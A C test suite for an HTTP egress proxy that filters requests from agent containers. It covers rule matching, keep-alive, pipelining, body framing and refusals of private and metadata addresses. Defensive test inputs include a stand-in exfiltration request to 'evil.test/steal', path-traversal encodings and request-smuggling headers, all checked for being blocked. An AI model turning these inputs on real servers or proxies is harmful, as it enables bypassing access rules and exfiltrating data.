/* Plain HTTP through the explicit and transparent proxy: judged per
 * request, rewritten to origin form, relayed both ways. */
#include <criterion/criterion.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "pxlab.h"
#include "rules.h"

static void start(void)
{
	pxlab_start(LAB_RULES, NULL);
}

TestSuite(proxy_http, .init = start, .fini = pxlab_stop, .timeout = 30);

Test(proxy_http, allowed_request_reaches_the_upstream_in_origin_form)
{
	struct resp r;
	uint64_t n = pxlab_events();
	pxlab_get("http://web.test/hello?x=1", &r);
	cr_assert_eq(r.status, 200, "%s", r.head);
	cr_assert_str_eq(r.body, "web:web.test:GET:/hello?x=1:0:0");
	cr_assert_str_eq(resp_header(&r, "x-server"), "test");
	cr_assert_str_eq(resp_header(&r, "keep-alive"), "", "hop-by-hop field from upstream");
	resp_free(&r);
	struct rec e;
	cr_assert(pxlab_event_after(n, OC_EVENT_DECISION, &e));
	cr_assert_str_eq(e.verdict, "allow");
	cr_assert_str_eq(e.rule, "allow-web");
	cr_assert_str_eq(e.agent, "agent");
	cr_assert_str_eq(e.host, "web.test");
	cr_assert_str_eq(e.path, "/hello?x=1");
	cr_assert_eq(e.status, 200);
	cr_assert_gt(e.bytes_up, 0);
	cr_assert_gt(e.bytes_down, 30);
}

Test(proxy_http, blocked_host_gets_403_with_decision_rule_and_command)
{
	struct resp r;
	unsigned before = srv_requests(lab.web);
	uint64_t n = pxlab_events();
	pxlab_get("http://evil.test/steal?what=all", &r);
	cr_assert_eq(r.status, 403);
	cr_assert_str_eq(resp_header(&r, "x-outcall-rule"), "default");
	const char *id = resp_header(&r, "x-outcall-decision");
	cr_assert_gt(strlen(id), 0);
	char idcopy[32];
	snprintf(idcopy, sizeof(idcopy), "%s", id);
	cr_assert_not_null(strstr(r.body, "GET http://evil.test/steal?what=all"), "%s", r.body);
	cr_assert_not_null(strstr(r.body, "outcall-shim request --host evil.test --port 80 "
		"--method GET --path '/steal?what=all' --why \"...\""), "%s", r.body);
	cr_assert_not_null(strstr(r.body, idcopy));
	cr_assert_eq(srv_requests(lab.web), before, "a blocked request must not reach upstream");
	struct rec e;
	cr_assert(pxlab_event_after(n, OC_EVENT_DECISION, &e));
	cr_assert_str_eq(e.verdict, "block");
	cr_assert_str_eq(e.rule, "default");
	char eid[OC_EVENT_ID_LEN];
	oc_event_id_format(e.id, eid);
	cr_assert_str_eq(eid, idcopy, "the page names the record's decision id");
	resp_free(&r);
}

Test(proxy_http, method_path_and_header_rules)
{
	struct resp r;
	pxlab_get("http://web.test/admin/users", &r);
	cr_assert_eq(r.status, 403);
	cr_assert_str_eq(resp_header(&r, "x-outcall-rule"), "block-admin");
	resp_free(&r);

	int fd = pxlab_connect(AGENT_IP, PROXY);
	pxlab_sendf(fd, "DELETE http://web.test/item HTTP/1.1\r\nHost: web.test\r\n\r\n");
	pxlab_response(fd, &r, false);
	cr_assert_eq(r.status, 403);
	cr_assert_str_eq(resp_header(&r, "x-outcall-rule"), "no-delete");
	resp_free(&r);
	/* The same connection goes on: the block had no body to skip. */
	pxlab_sendf(fd, "GET http://web.test/keyed HTTP/1.1\r\nHost: web.test\r\n\r\n");
	pxlab_response(fd, &r, false);
	cr_assert_eq(r.status, 403);
	cr_assert_str_eq(resp_header(&r, "x-outcall-rule"), "keyed");
	resp_free(&r);
	pxlab_sendf(fd, "GET http://web.test/keyed HTTP/1.1\r\nHost: web.test\r\n"
		"X-API-Key: secret\r\n\r\n");
	pxlab_response(fd, &r, false);
	cr_assert_eq(r.status, 200, "headers are seen by rules (lower-case names)");
	resp_free(&r);
	close(fd);
}

Test(proxy_http, keep_alive_judges_every_request_and_reuses_the_upstream)
{
	unsigned conns = srv_connections(lab.web);
	int fd = pxlab_connect(AGENT_IP, PROXY);
	struct resp r;
	const char *seq[] = { "web.test/one", "evil.test/two", "web.test/three", "web.test/four" };
	int want[] = { 200, 403, 200, 200 };
	for (int i = 0; i < 4; i++) {
		const char *slash = strchr(seq[i], '/');
		pxlab_sendf(fd, "GET http://%s HTTP/1.1\r\nHost: %.*s\r\n\r\n", seq[i],
			(int)(slash - seq[i]), seq[i]);
		pxlab_response(fd, &r, false);
		cr_assert_eq(r.status, want[i], "request %d (%s): %d", i, seq[i], r.status);
		resp_free(&r);
	}
	close(fd);
	cr_assert_eq(srv_connections(lab.web), conns + 1, "one upstream connection for all");
}

Test(proxy_http, pipelined_requests_are_answered_in_order)
{
	int fd = pxlab_connect(AGENT_IP, PROXY);
	pxlab_sendf(fd, "GET http://web.test/p1 HTTP/1.1\r\nHost: web.test\r\n\r\n"
		"GET http://evil.test/p2 HTTP/1.1\r\nHost: evil.test\r\n\r\n"
		"GET http://web.test/p3 HTTP/1.1\r\nHost: web.test\r\n\r\n");
	struct resp r;
	pxlab_response(fd, &r, false);
	cr_assert_str_eq(r.body, "web:web.test:GET:/p1:0:0");
	resp_free(&r);
	pxlab_response(fd, &r, false);
	cr_assert_eq(r.status, 403);
	resp_free(&r);
	pxlab_response(fd, &r, false);
	cr_assert_str_eq(r.body, "web:web.test:GET:/p3:0:0");
	resp_free(&r);
	close(fd);
}

Test(proxy_http, hop_by_hop_fields_are_stripped)
{
	int fd = pxlab_connect(AGENT_IP, PROXY);
	pxlab_sendf(fd, "GET http://web.test/echo-head HTTP/1.1\r\nHost: web.test\r\n"
		"Proxy-Connection: keep-alive\r\nKeep-Alive: 300\r\nConnection: X-Secret, keep-alive\r\n"
		"X-Secret: no\r\nProxy-Authorization: Basic Zm9vOmJhcg==\r\nTE: trailers\r\n"
		"Upgrade: h2c\r\nX-Kept: yes\r\n\r\n");
	struct resp r;
	pxlab_response(fd, &r, false);
	cr_assert_eq(r.status, 200);
	cr_assert_str_eq(r.body, "GET /echo-head HTTP/1.1\r\nHost: web.test\r\nX-Kept: yes\r\n\r\n");
	resp_free(&r);
	close(fd);
}

Test(proxy_http, request_bodies_by_length_and_chunked)
{
	int fd = pxlab_connect(AGENT_IP, PROXY);
	pxlab_sendf(fd, "POST http://web.test/upload HTTP/1.1\r\nHost: web.test\r\n"
		"Content-Length: 5\r\n\r\nabcde");
	struct resp r;
	pxlab_response(fd, &r, false);
	cr_assert_str_eq(r.body, "web:web.test:POST:/upload:5:495");
	resp_free(&r);
	pxlab_sendf(fd, "POST http://web.test/chunks HTTP/1.1\r\nHost: web.test\r\n"
		"Transfer-Encoding: chunked\r\n\r\n3;x=y\r\nabc\r\n2\r\nde\r\n0\r\n\r\n");
	pxlab_response(fd, &r, false);
	cr_assert_str_eq(r.body, "web:web.test:POST:/chunks:5:495");
	resp_free(&r);
	close(fd);
}

Test(proxy_http, large_body_both_ways_is_intact)
{
	enum { N = 3 * 1024 * 1024 + 7 };
	char *body = malloc(N);
	unsigned sum = 0;
	for (size_t i = 0; i < N; i++) {
		body[i] = (char)(i * 7 % 256);
		sum += (unsigned char)body[i];
	}
	int fd = pxlab_connect(AGENT_IP, PROXY);
	pxlab_sendf(fd, "PUT http://web.test/bulk HTTP/1.1\r\nHost: web.test\r\n"
		"Content-Length: %d\r\n\r\n", N);
	pxlab_send(fd, body, N);
	struct resp r;
	pxlab_response(fd, &r, false);
	char want[128];
	snprintf(want, sizeof(want), "web:web.test:PUT:/bulk:%d:%u", N, sum);
	cr_assert_str_eq(r.body, want);
	resp_free(&r);
	pxlab_sendf(fd, "GET http://web.test/big?n=%d HTTP/1.1\r\nHost: web.test\r\n\r\n", N);
	pxlab_response(fd, &r, false);
	cr_assert_eq(r.len, (size_t)N);
	for (size_t i = 0; i < N; i++)
		if ((unsigned char)r.body[i] != i % 251)
			cr_assert_fail("byte %zu differs", i);
	resp_free(&r);
	free(body);
	close(fd);
}

Test(proxy_http, chunked_and_close_delimited_responses)
{
	int fd = pxlab_connect(AGENT_IP, PROXY);
	struct resp r;
	pxlab_sendf(fd, "GET http://web.test/chunked HTTP/1.1\r\nHost: web.test\r\n\r\n");
	pxlab_response(fd, &r, false);
	cr_assert_str_eq(r.body, "5\r\nhello\r\n6;ext=1\r\n world\r\n0\r\n\r\n");
	resp_free(&r);
	pxlab_sendf(fd, "HEAD http://web.test/x HTTP/1.1\r\nHost: web.test\r\n\r\n");
	pxlab_response(fd, &r, true);
	cr_assert_eq(r.status, 200);
	resp_free(&r);
	pxlab_sendf(fd, "GET http://web.test/close HTTP/1.1\r\nHost: web.test\r\n\r\n");
	pxlab_response(fd, &r, false);
	cr_assert_str_eq(r.body, "until the end");
	cr_assert(r.closed, "a close-delimited body ends the client connection");
	cr_assert_str_eq(resp_header(&r, "connection"), "close");
	resp_free(&r);
	close(fd);
}

Test(proxy_http, origin_form_to_the_explicit_port_is_refused)
{
	int fd = pxlab_connect(AGENT_IP, PROXY);
	pxlab_sendf(fd, "GET /direct HTTP/1.1\r\nHost: web.test\r\n\r\n");
	struct resp r;
	pxlab_response(fd, &r, false);
	cr_assert_eq(r.status, 400);
	cr_assert_not_null(strstr(r.body, "absolute-form"));
	resp_free(&r);
	close(fd);
}

/* issue 11: %2F, %2E, %25, '\\' and dot segments would let an upstream that
 * decodes or normalises serve another path than the rules judged
 * (/public/%2e%2e/admin as /admin, around block-admin). */
Test(proxy_http, paths_that_change_meaning_upstream_are_refused)
{
	static const char *const bad[] = { "/public/%2e%2e/admin", "/public/%2E./admin",
		"/x%2Fadmin", "/x%2fadmin", "/x%5cadmin", "/a/%252e%252e/admin", "/public/../admin",
		"/./admin", "/a/..", "/a\\..\\admin" };
	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		int fd = pxlab_connect(AGENT_IP, PROXY);
		pxlab_sendf(fd, "GET http://web.test%s HTTP/1.1\r\nHost: web.test\r\n\r\n", bad[i]);
		struct resp r;
		pxlab_response(fd, &r, false);
		cr_expect_eq(r.status, 400, "%s: %d %s", bad[i], r.status, r.body);
		resp_free(&r);
		close(fd);
	}
	static const char *const good[] = { "/a.b/c..d/.e", "/%41%7e", "/q?x=%2e%2e/%2F" };
	for (size_t i = 0; i < sizeof(good) / sizeof(good[0]); i++) {
		struct resp r;
		char url[128];
		snprintf(url, sizeof(url), "http://web.test%s", good[i]);
		pxlab_get(url, &r);
		cr_expect_eq(r.status, 200, "%s: %d %s", good[i], r.status, r.body);
		resp_free(&r);
	}
}

Test(proxy_http, malformed_and_smuggling_heads_get_400)
{
	const char *bad[] = {
		"GET http://web.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n",
		"POST http://web.test/ HTTP/1.1\r\nHost: web.test\r\nContent-Length: 3\r\n"
		"Transfer-Encoding: chunked\r\n\r\n",
		"GET http://web.test/ HTTP/1.1\r\nHost: web.test\r\nX: a\r\n b\r\n\r\n",
		"GET http://web.test/a/../admin HTTP/1.1\r\nHost: web.test\r\n\r\n",
	};
	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		int fd = pxlab_connect(AGENT_IP, PROXY);
		pxlab_send(fd, bad[i], strlen(bad[i]));
		struct resp r;
		pxlab_response(fd, &r, false);
		cr_assert_eq(r.status, 400, "case %zu: %d", i, r.status);
		resp_free(&r);
		close(fd);
	}
}

Test(proxy_http, unknown_peer_is_refused_before_the_rules)
{
	int fd = pxlab_connect(STRANGER_IP, PROXY);
	uint64_t n = pxlab_events();
	pxlab_sendf(fd, "GET http://web.test/ HTTP/1.1\r\nHost: web.test\r\n\r\n");
	struct resp r;
	pxlab_response(fd, &r, false);
	cr_assert_eq(r.status, 403);
	cr_assert_not_null(strstr(r.body, "not a container managed by Outcall"), "%s", r.body);
	cr_assert_str_eq(resp_header(&r, "x-outcall-rule"), "");
	resp_free(&r);
	close(fd);
	struct rec e;
	cr_assert(pxlab_event_after(n, OC_EVENT_DECISION, &e));
	cr_assert_str_eq(e.verdict, "refused");
	cr_assert_str_eq(e.rule, "");
}

Test(proxy_http, private_upstreams_need_the_rule)
{
	struct resp r;
	pxlab_get("http://private.test/no", &r);
	cr_assert_eq(r.status, 403, "private.test resolves to 10.9.9.9");
	cr_assert_str_eq(resp_header(&r, "x-outcall-rule"), "private-plain");
	cr_assert_not_null(strstr(r.body, "allow_private_ips"), "%s", r.body);
	resp_free(&r);
	pxlab_get("http://10.9.9.9/", &r);
	cr_assert_eq(r.status, 403, "literal private addresses are checked too");
	resp_free(&r);
	pxlab_get("http://private.test/ok", &r);
	cr_assert_eq(r.status, 200, "allow_private_ips opens it");
	cr_assert_str_eq(r.body, "web:private.test:GET:/ok:0:0");
	resp_free(&r);
	pxlab_get("http://meta.test/", &r);
	cr_assert_eq(r.status, 403, "metadata stays closed even with allow_private_ips");
	resp_free(&r);
	pxlab_get("http://169.254.169.254/latest", &r);
	cr_assert_eq(r.status, 403);
	resp_free(&r);
}

Test(proxy_http, upstream_failures_are_502_with_the_reason)
{
	struct resp r;
	uint64_t before = 0;
	pxlab_get("http://nx.test/", &r);
	cr_assert_eq(r.status, 502);
	cr_assert_not_null(strstr(r.body, "NXDOMAIN"), "%s", r.body);
	resp_free(&r);
	pxlab_get("http://web.test:81/", &r);
	cr_assert_eq(r.status, 502, "nothing listens on :81");
	resp_free(&r);
	(void)before;
	cr_assert(PXLAB_WAIT_STAT(upstream_errors, 2));
}

Test(proxy_http, literal_ip_is_judged_as_its_host)
{
	struct resp r;
	pxlab_get("http://198.18.1.80/lit", &r);
	cr_assert_eq(r.status, 200);
	cr_assert_str_eq(r.body, "web:198.18.1.80:GET:/lit:0:0");
	resp_free(&r);
}

Test(proxy_http, transparent_http_is_judged_on_host)
{
	int fd = pxlab_connect(AGENT_IP, "198.18.1.80:80");
	pxlab_sendf(fd, "GET /t HTTP/1.1\r\nHost: web.test\r\n\r\n");
	struct resp r;
	pxlab_response(fd, &r, false);
	cr_assert_eq(r.status, 200, "%s", r.head);
	cr_assert_str_eq(r.body, "web:web.test:GET:/t:0:0");
	resp_free(&r);
	pxlab_sendf(fd, "GET /t HTTP/1.1\r\nHost: evil.test\r\n\r\n");
	pxlab_response(fd, &r, false);
	cr_assert_eq(r.status, 403, "the Host header decides, not the address");
	resp_free(&r);
	close(fd);
}

/* The packet's own destination is used only when it is one of the checked
 * addresses: here it is a private server the rules never allowed. */
Test(proxy_http, transparent_upstream_is_the_checked_address_not_the_packets)
{
	unsigned web_before = srv_requests(lab.web);
	int fd = pxlab_connect(AGENT_IP, "10.9.9.9:80");
	pxlab_sendf(fd, "GET /where HTTP/1.1\r\nHost: web.test\r\n\r\n");
	struct resp r;
	pxlab_response(fd, &r, false);
	cr_assert_eq(r.status, 200, "%s", r.head);
	cr_assert_str_eq(r.body, "web:web.test:GET:/where:0:0");
	resp_free(&r);
	close(fd);
	cr_assert_eq(srv_requests(lab.web), web_before + 1, "web.test's own server answered");
	cr_assert_eq(srv_connections(lab.priv_web), 0, "the private server saw nothing");
}

Test(proxy_http, stats_count_requests)
{
	struct resp r;
	pxlab_get("http://web.test/s", &r);
	resp_free(&r);
	pxlab_get("http://evil.test/s", &r);
	resp_free(&r);
	cr_assert(PXLAB_WAIT_STAT(requests_allowed, 1));
	cr_assert(PXLAB_WAIT_STAT(requests_blocked, 1));
	oc_proxy_stats st = OC_PROXY_STATS_INIT;
	oc_proxy_get_stats(lab.proxy, &st);
	cr_assert_eq(st.conns_total, 2);
	cr_assert_gt(st.bytes_down, 0);
}

Test(proxy_http, large_chunked_body_is_relayed_with_its_framing)
{
	enum { N = 1024 * 1024 };
	char *chunk = malloc(N);
	unsigned sum = 0;
	for (size_t i = 0; i < N; i++) {
		chunk[i] = (char)(i % 13 + 'a');
		sum += (unsigned char)chunk[i];
	}
	int fd = pxlab_connect(AGENT_IP, PROXY);
	pxlab_sendf(fd, "POST http://web.test/big-chunks HTTP/1.1\r\nHost: web.test\r\n"
		"Transfer-Encoding: chunked\r\n\r\n%x\r\n", N);
	pxlab_send(fd, chunk, N);
	pxlab_sendf(fd, "\r\n%x\r\n", N);
	pxlab_send(fd, chunk, N);
	pxlab_sendf(fd, "\r\n0\r\n\r\n");
	struct resp r;
	pxlab_response(fd, &r, false);
	char want[128];
	snprintf(want, sizeof(want), "web:web.test:POST:/big-chunks:%d:%u", 2 * N, 2 * sum);
	cr_assert_str_eq(r.body, want);
	resp_free(&r);
	free(chunk);
	close(fd);
}

Test(proxy_http, the_hosts_own_addresses_are_never_an_upstream)
{
	/* Allowed with allow_private_ips, but 10.200.0.1 is the proxy's own
	 * address: connecting would reach the proxy itself. */
	struct resp r;
	pxlab_get("http://self.test:8080/loop", &r);
	cr_assert_eq(r.status, 403, "%s", r.body);
	cr_assert_not_null(strstr(r.body, "belongs to this host"), "%s", r.body);
	resp_free(&r);
	pxlab_get("http://10.200.0.1:8080/loop", &r);
	cr_assert_eq(r.status, 403);
	resp_free(&r);
	/* The check is made on the connected socket: the handshakes reached
	 * the listener (2 + 2 connections), no request did. */
	cr_assert(PXLAB_WAIT_STAT(conns_open, 0));
	oc_proxy_stats st = OC_PROXY_STATS_INIT;
	oc_proxy_get_stats(lab.proxy, &st);
	cr_assert_eq(st.conns_total, 4);
	cr_assert_eq(st.requests_refused + st.requests_invalid, 0,
		"nothing was sent on the connections to itself");
}

/* n requests for host sent in one go; the answers come in order: 200s
 * with the upstream's echo of the path, or 403s. */
static void pipelined(const char *host, int n, int status)
{
	int fd = pxlab_connect(AGENT_IP, PROXY);
	char *all = malloc((size_t)n * 80);
	size_t len = 0;
	for (int i = 0; i < n; i++)
		len += (size_t)sprintf(all + len, "GET http://%s/n%d HTTP/1.1\r\nHost: %s\r\n\r\n", host,
			i, host);
	pxlab_send(fd, all, len);
	for (int i = 0; i < n; i++) {
		struct resp r;
		char want[64];
		pxlab_response(fd, &r, false);
		cr_assert_eq(r.status, status, "answer %d", i);
		snprintf(want, sizeof(want), "web:%s:GET:/n%d:0:0", host, i);
		if (status == 200)
			cr_assert_str_eq(r.body, want);
		resp_free(&r);
	}
	free(all);
	close(fd);
}

Test(proxy_http, a_flood_of_pipelined_requests_is_answered_in_order)
{
	pipelined("web.test", 300, 200);
}

/* Answered by the proxy itself, one after the other without a socket
 * event between them: the connection must keep going after yielding. */
Test(proxy_http, many_pipelined_blocks_are_all_answered)
{
	pipelined("evil.test", 100, 403);
}
